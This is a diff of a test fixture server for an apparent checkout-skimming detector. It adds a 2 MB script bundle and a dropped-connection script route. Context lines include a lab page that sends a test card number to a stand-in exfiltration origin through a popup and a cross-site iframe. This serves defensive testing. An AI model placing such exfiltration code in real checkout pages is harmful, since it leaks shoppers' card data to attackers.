@@ -44,6 +44,8 @@ const PSP_CHANGED_PATH = '/v3/checkout-next.js';
 
 const PSP_SCRIPT = `window.PspPay = { version: '3.1.0', mount: function (selector) { var el = document.querySelector(selector); if (el) el.setAttribute('data-psp', 'mounted'); return !!el; } };\n`;
 const PSP_CHANGED_SCRIPT = `${PSP_SCRIPT}window.PspPay.version = '3.2.0';\n`;
+/** 2 MB of script: a comment line repeated, then one statement (test/scripts/browser-probe.test.ts). */
+export const BUNDLE = `${'/* merged checkout modules, minified */\n'.repeat(52_000)}window.__bundle = 1;\n`;
 const sri = (body: string) => `sha384-${createHash('sha384').update(body).digest('base64')}`;
 
 /** A small RequireJS: require() waits for load, then injects one <script> per module it lacks. */
@@ -217,6 +219,10 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
     // A popup off the target, and a cross-site (out-of-process) iframe that posts.
     '/lab/escape/': () =>
       `<!doctype html><html><head><title>Checkout</title><script>window.open('${o.exfil}/popup?c=4111');</script></head><body><iframe src="${o.psp}/frame.html?to=${encodeURIComponent(`${o.exfil}/f`)}"></iframe></body></html>`,
+    // A bundle of 2 MB, as a checkout's merged JavaScript can be.
+    '/lab/big-script/': () => page('Checkout', '<h1>Checkout</h1>', [], `<script src="/lab/bundle.js"></script>\n`),
+    // A script whose connection the server drops: the page loads, the script never arrives.
+    '/lab/script-reset/': () => page('Checkout', '<h1>Checkout</h1>', [], `<script src="/lab/reset.js"></script>\n`),
     '/lab/tricks/': () => `<!doctype html><html><head><title>Tricks</title><script>${tricks(o)}</script></head><body><p>tricks</p></body></html>`,
   };
   const scripts: Readonly<Record<string, () => string>> = {
@@ -236,6 +242,8 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
       return void res.writeHead(200, { 'content-type': 'application/json' }).end('{"cart":{"summary_count":1},"customer":{}}');
     // An event stream that stays open: it must not keep the page from settling.
     if (path === '/lab/events') return void res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' }).write('data: hello\n\n');
+    if (path === '/lab/reset.js') return void req.socket.destroy();
+    if (path === '/lab/bundle.js') return void res.writeHead(200, { 'content-type': 'application/javascript' }).end(BUNDLE);
     if (path === '/lab/moved/') return void res.writeHead(302, { location: 'https://www.shop-elsewhere.test/checkout/' }).end();
     if (path === '/lab/maintenance/') {
       return void res
